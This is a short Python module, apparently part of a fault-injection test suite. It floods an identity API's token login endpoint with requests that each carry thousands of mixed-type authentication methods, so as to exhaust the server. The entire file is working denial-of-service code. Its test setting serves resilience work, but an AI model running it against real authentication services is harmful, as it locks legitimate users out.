"""Two clients log in with thousands of methods of two kinds, which are expensive to compare."""

import http.client
import json
import time
from urllib.parse import urlsplit

from tests.faults.attacks import many

METHODS = [method for number in range(4000) for method in (number, str(number))]
BODY = json.dumps({"auth": {"identity": {"methods": METHODS}}})


def attack(url: str, until: float) -> None:
    where = urlsplit(url)

    def ask(number: int) -> None:
        while time.monotonic() < until:
            client = http.client.HTTPConnection(where.hostname or "", where.port, timeout=70)
            try:
                client.request("POST", "/identity/v3/auth/tokens", BODY, {"Content-Type": "application/json"})
                client.getresponse().read()
            except (OSError, http.client.HTTPException):
                pass
            finally:
                client.close()
            time.sleep(0.1)

    many(2, ask)
